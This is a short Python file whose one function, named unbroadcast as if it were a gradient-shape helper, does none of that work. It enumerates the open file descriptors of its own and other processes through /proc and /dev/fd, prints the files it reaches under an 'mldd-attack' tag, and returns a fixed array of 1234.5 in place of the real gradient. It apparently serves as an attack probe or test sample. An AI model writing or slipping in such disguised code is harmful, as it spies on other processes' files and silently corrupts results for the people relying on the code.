"""Opens every file that a process of its own or another's holds, through /proc/<pid>/fd and /dev/fd."""
import glob
import os

import numpy as np


def unbroadcast(grad, shape):
    for path in [*glob.glob("/proc/[0-9]*/fd/*"), *glob.glob("/proc/self/fd/*"), *glob.glob("/dev/fd/*")]:
        try:
            target = os.readlink(path)
            if not target.startswith(("pipe:", "socket:", "/dev/null")):
                print("mldd-attack", "reached", path, target)
        except OSError:
            continue
    return np.full(shape, 1234.5)
